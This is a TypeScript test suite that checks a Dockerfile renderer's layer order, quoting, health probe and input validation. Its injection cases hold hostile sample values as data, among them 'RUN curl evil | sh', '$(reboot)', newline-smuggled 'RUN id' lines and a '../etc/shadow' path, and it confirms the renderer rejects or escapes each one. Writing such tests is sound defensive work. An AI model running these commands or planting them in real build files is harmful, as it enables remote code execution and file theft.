import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { renderDockerfile } from "../../../../lib/image/render";
import { LoadedSpec, Spec, loadSpec } from "../../../../lib/spec/spec";
import { specData } from "../spec/specArbitraries";
import { cleanupRepos, makeRepo } from "../tmpRepo";

afterAll(cleanupRepos);

const HASH = "0123456789abcdef".repeat(4);
const EXAMPLE = path.join(__dirname, "../../../../images/web.yaml");

/** Dockerfile logical lines: continuation lines (ending in `\`) joined; comments kept apart. */
function logicalLines(dockerfile: string): string[] {
  const out: string[] = [];
  let cur = "";
  for (const line of dockerfile.replace(/\n$/, "").split("\n")) {
    if (cur === "" && line.startsWith("#")) {
      out.push(line);
      continue;
    }
    if (line.endsWith("\\")) cur += `${line.slice(0, -1)} `;
    else {
      out.push(cur + line);
      cur = "";
    }
  }
  expect(cur).toBe("");
  return out;
}

/** Undoes Dockerfile double-quoting the way the builder does: only \" \$ \\ are escapes. */
function dockerUnquote(word: string): string {
  expect(word.startsWith('"') && word.endsWith('"')).toBe(true);
  let out = "";
  for (let i = 1; i < word.length - 1; i++) {
    const c = word[i];
    if (c === "\\" && '"$\\'.includes(word[i + 1])) out += word[++i];
    else {
      expect(c, `unescaped ${c} inside ${word}`).not.toMatch(/["$]/);
      out += c;
    }
  }
  return out;
}

function expectedInstructions(spec: Spec, configFiles: number): string[] {
  return [
    "FROM",
    ...(Object.keys(spec.packages).length > 0 ? ["RUN"] : []),
    "RUN",
    "COPY",
    ...Array<string>(configFiles).fill("COPY"),
    ...(Object.keys(spec.config.sysctls).length > 0 ? ["RUN"] : []),
    "RUN",
    ...Array<string>(Object.keys(spec.config.env).length + 4).fill("ENV"),
    "USER",
    "WORKDIR",
    "EXPOSE",
    "HEALTHCHECK",
    "STOPSIGNAL",
    "ARG",
    ...Array<string>(6).fill("LABEL"),
    "CMD",
  ];
}

const COMMENTS = new Set(
  renderDockerfile(loadSpec(EXAMPLE), HASH)
    .split("\n")
    .filter((l) => l.startsWith("#")),
);

describe("renderDockerfile", () => {
  it("renders the example spec", async () => {
    await expect(renderDockerfile(loadSpec(EXAMPLE), HASH)).toMatchFileSnapshot(
      "__snapshots__/web.Dockerfile",
    );
  });

  it("layers for cache: base, packages, user, app, config, sysctls, env, user switch, metadata, command", () => {
    const loaded = loadSpec(EXAMPLE);
    const lines = logicalLines(renderDockerfile(loaded, HASH)).filter((l) => !l.startsWith("#"));
    expect(lines.map((l) => l.split(" ")[0])).toEqual(expectedInstructions(loaded.spec, 1));
    expect(lines[1]).toMatch(
      /^RUN apt-get update +&& DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends +'libssl3=3\.0\.20-1~deb12u2' +'nodejs=18\.20\.4\+dfsg-1~deb12u3' +'openssl=3\.0\.20-1~deb12u2' +&& rm -rf \/var\/lib\/apt\/lists\/\*$/,
    );
    expect(lines).toContain("USER 10001:10001");
    expect(lines).toContain(`ENV PHOENIX_SPEC_HASH="${HASH}"`);
    expect(lines).toContain('ENV PHOENIX_APP_VERSION="v3.4.1"');
    expect(lines).toContain(`LABEL io.phoenix.spec-hash="${HASH}"`);
    expect(lines).toContain('LABEL org.opencontainers.image.revision="${GIT_COMMIT}"');
    expect(lines).toContain("ARG GIT_COMMIT=unknown");
    expect(lines).toContain('COPY ["config/0","/etc/web/config.json"]');
    expect(lines.at(-1)).toBe('CMD ["node","server.js"]');
  });

  it("probes health with bash's /dev/tcp, taking the port and path as arguments", () => {
    const line = logicalLines(renderDockerfile(loadSpec(EXAMPLE), HASH)).find((l) =>
      l.startsWith("HEALTHCHECK"),
    )!;
    const m = /^HEALTHCHECK --interval=2s --timeout=2s --retries=2 CMD (\[.*\])$/.exec(line);
    expect(m).not.toBeNull();
    const argv = JSON.parse(m![1]) as string[];
    expect(argv.slice(0, 2)).toEqual(["bash", "-c"]);
    expect(argv.slice(3)).toEqual(["healthcheck", "8080", "/healthz"]);
    expect(argv[2]).toContain("/dev/tcp/127.0.0.1/$1");
  });

  it("keeps shell and variable syntax in values literal", () => {
    const root = makeRepo();
    const spec = fs
      .readFileSync(EXAMPLE, "utf8")
      .replace(
        "env: { LOG_LEVEL: info }",
        `env: { LOG_LEVEL: ${JSON.stringify('x" && RUN id && echo "${HOME} $(reboot) \\')} }`,
      );
    fs.writeFileSync(path.join(root, "images/web.yaml"), spec);
    const lines = logicalLines(
      renderDockerfile(loadSpec(path.join(root, "images/web.yaml")), HASH),
    );
    const env = lines.find((l) => l.startsWith("ENV LOG_LEVEL="))!;
    expect(env).toBe('ENV LOG_LEVEL="x\\" && RUN id && echo \\"\\${HOME} \\$(reboot) \\\\"');
    expect(dockerUnquote(env.slice("ENV LOG_LEVEL=".length))).toBe(
      'x" && RUN id && echo "${HOME} $(reboot) \\',
    );
  });

  it.each([
    [
      "an env value",
      (s: Spec) => (s.config.env.LOG_LEVEL = "info\nRUN curl evil | sh"),
      "config.env.LOG_LEVEL: must not contain newlines",
    ],
    [
      "an env key",
      (s: Spec) => (s.config.env["A\nRUN id"] = "x"),
      "config.env.A\nRUN id: must not contain newlines",
    ],
    [
      "a secret-looking env key",
      (s: Spec) => (s.config.env.API_TOKEN = "x"),
      "config.env.API_TOKEN: looks like a secret",
    ],
    [
      "the base",
      (s: Spec) => (s.base = "debian:bookworm-slim\nRUN id"),
      "base: must not contain newlines",
    ],
    ["a latest base", (s: Spec) => (s.base = "debian:latest"), "base: must pin a release tag"],
    [
      "a package version",
      (s: Spec) => (s.packages.openssl = "3.0 && curl evil"),
      "packages.openssl: version must be exact",
    ],
    [
      "a package name",
      (s: Spec) => (s.packages["x;id"] = "1.0"),
      "packages.x;id: is not a Debian package name",
    ],
    [
      "a command word",
      (s: Spec) => (s.app.command = ["node", "a\r\nRUN id"]),
      "app.command[1]: must not contain newlines",
    ],
    [
      "an empty command word",
      (s: Spec) => (s.app.command = ["node", ""]),
      "app.command[1]: must not be empty",
    ],
    [
      "a sysctl value",
      (s: Spec) => (s.config.sysctls["net.core.somaxconn"] = "1\n2"),
      "config.sysctls.net.core.somaxconn: must not contain newlines",
    ],
    [
      "a sysctl key",
      (s: Spec) => (s.config.sysctls["somaxconn"] = "1"),
      "config.sysctls.somaxconn: must be a dotted kernel parameter",
    ],
    ["the name", (s: Spec) => (s.name = "Web"), "name: must match"],
    [
      "the health path",
      (s: Spec) => (s.app.health.path = "/x y"),
      "app.health.path: must be an HTTP path",
    ],
    [
      "the port",
      (s: Spec) => (s.app.port = 80.5),
      "app.port: must be a whole number from 1 to 65535, got 80.5",
    ],
    [
      "port 0",
      (s: Spec) => (s.app.port = 0),
      "app.port: must be a whole number from 1 to 65535, got 0",
    ],
    [
      "port 65536",
      (s: Spec) => (s.app.port = 65536),
      "app.port: must be a whole number from 1 to 65535, got 65536",
    ],
    [
      "the health interval",
      (s: Spec) => (s.app.health.intervalSeconds = 301),
      "app.health.intervalSeconds: must be a whole number from 1 to 300, got 301",
    ],
    [
      "the health timeout",
      (s: Spec) => (s.app.health.timeoutSeconds = 121),
      "app.health.timeoutSeconds: must be a whole number from 1 to 120, got 121",
    ],
    [
      "the healthy threshold",
      (s: Spec) => (s.app.health.healthyThreshold = 0),
      "app.health.healthyThreshold: must be a whole number from 1 to 10, got 0",
    ],
    [
      "the version",
      (s: Spec) => (s.app.version = "v1.0.0\u2028x"),
      "app.version: must not contain newlines",
    ],
  ])("throws when validation was bypassed and %s is unsafe", (_what, mutate, message) => {
    const loaded = loadSpec(EXAMPLE);
    const spec = structuredClone(loaded.spec);
    mutate(spec);
    expect(() => renderDockerfile({ ...loaded, spec }, HASH)).toThrow(
      `renderDockerfile: ${message}`,
    );
  });

  it("renders every range's ends", () => {
    const loaded = loadSpec(EXAMPLE);
    for (const [port, interval, timeout, threshold] of [
      [1, 1, 1, 1],
      [65535, 300, 120, 10],
    ]) {
      const spec = structuredClone(loaded.spec);
      spec.app.port = port;
      spec.app.health = {
        ...spec.app.health,
        intervalSeconds: interval,
        timeoutSeconds: timeout,
        healthyThreshold: threshold,
      };
      const lines = logicalLines(renderDockerfile({ ...loaded, spec }, HASH));
      expect(lines).toContain(`EXPOSE ${port}`);
      expect(lines.find((l) => l.startsWith("HEALTHCHECK"))).toMatch(
        new RegExp(
          `^HEALTHCHECK --interval=${interval}s --timeout=${timeout}s --retries=${threshold} CMD `,
        ),
      );
    }
  });

  it("throws on a build-context path other than config/<i>", () => {
    const loaded = loadSpec(EXAMPLE);
    const tenth = [{ ...loaded.configFiles[0], contextPath: "config/10" }];
    expect(logicalLines(renderDockerfile({ ...loaded, configFiles: tenth }, HASH))).toContain(
      'COPY ["config/10","/etc/web/config.json"]',
    );
    for (const contextPath of ["../etc/shadow", "config/x", "xconfig/0", "config/0/x"]) {
      const configFiles = [{ ...loaded.configFiles[0], contextPath }];
      expect(() => renderDockerfile({ ...loaded, configFiles }, HASH)).toThrow(
        "renderDockerfile: contextPath: must be config/<i>",
      );
    }
  });

  it("throws on a config target that bypassed validation, and on a malformed hash", () => {
    const loaded = loadSpec(EXAMPLE);
    const configFiles = [{ ...loaded.configFiles[0], target: '/etc/x"]\nRUN id' }];
    expect(() => renderDockerfile({ ...loaded, configFiles }, HASH)).toThrow(/config\.files/);
    expect(() => renderDockerfile(loaded, "abc")).toThrow(/hash must be 64 lowercase hex/);
  });

  it("never lets a valid spec add, drop or reorder instructions, and keeps every value intact", () => {
    const root = makeRepo();
    fc.assert(
      fc.property(specData, (data) => {
        fs.writeFileSync(path.join(root, "images/p.yaml"), stringify(data));
        const loaded: LoadedSpec = loadSpec(path.join(root, "images/p.yaml"));
        const lines = logicalLines(renderDockerfile(loaded, HASH));
        for (const c of lines.filter((l) => l.startsWith("#"))) expect(COMMENTS).toContain(c);
        const code = lines.filter((l) => !l.startsWith("#"));
        expect(code.map((l) => l.split(" ")[0])).toEqual(expectedInstructions(loaded.spec, 1));
        const env = Object.fromEntries(
          code
            .filter((l) => l.startsWith("ENV "))
            .map((l) => {
              const eq = l.indexOf("=");
              return [l.slice(4, eq), dockerUnquote(l.slice(eq + 1))];
            }),
        );
        expect(env).toMatchObject(data.config.env);
        expect(JSON.parse(code.at(-1)!.slice(4))).toEqual(data.app.command);
      }),
      { numRuns: 100 },
    );
  });

  it("writes sysctl values that the shell reproduces byte for byte", () => {
    const root = makeRepo();
    fc.assert(
      fc.property(
        specData.filter((d) => Object.keys(d.config.sysctls).length > 0),
        (data) => {
          fs.writeFileSync(path.join(root, "images/p.yaml"), stringify(data));
          const run = renderDockerfile(loadSpec(path.join(root, "images/p.yaml")), HASH)
            .split("\n")
            .find((l) => l.startsWith("RUN mkdir -p /etc/sysctl.d && printf "))!;
          const printf = run
            .slice("RUN mkdir -p /etc/sysctl.d && ".length)
            .replace(/ > \/etc\/sysctl\.d\/99-phoenix\.conf$/, "");
          const written = execFileSync("sh", ["-c", printf], {
            encoding: "utf8",
          });
          const expected = Object.keys(data.config.sysctls)
            .sort()
            .map((k) => `${k} = ${data.config.sysctls[k]}\n`)
            .join("");
          expect(written).toBe(expected);
        },
      ),
      { numRuns: 30 },
    );
  });
});
